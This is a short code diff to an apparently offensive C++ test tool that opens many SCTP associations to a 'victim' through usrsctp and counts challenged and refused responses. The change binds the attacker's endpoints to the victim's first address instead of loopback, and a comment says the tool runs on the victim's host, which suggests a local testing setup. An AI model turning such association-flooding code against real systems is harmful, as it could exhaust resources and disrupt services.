@@ -57,7 +57,9 @@ std::string hello(uint8_t link, const std::string& nonce, const std::string& blo
 // One association of ours to the victim, on an endpoint of its own (a new source port each).
 class Assoc {
 public:
-    Assoc(const Settings& s, const Card& victim) : ep_(s, 0, {"127.0.0.1"}) {
+    // Bound to the victim's first address: a local one, the attacker running on its host, and in
+    // the same scope (usrsctp will not pair a loopback source with another destination).
+    Assoc(const Settings& s, const Card& victim) : ep_(s, 0, {victim.addresses[0]}) {
         id_ = ep_.connect(victim.addresses, victim.sctp_port, victim.udp_port);
     }
 
@@ -174,7 +176,7 @@ int main(int argc, char** argv) {
         Card mine;
         mine.udp_port = stack.udp_port;
         mine.sctp_port = 1;
-        mine.addresses = {"127.0.0.1"};
+        mine.addresses = {victim.addresses[0]};
         const std::string my_card = format_card(mine);
         int challenged = 0, refused = 0;
         uint64_t bytes = 0;
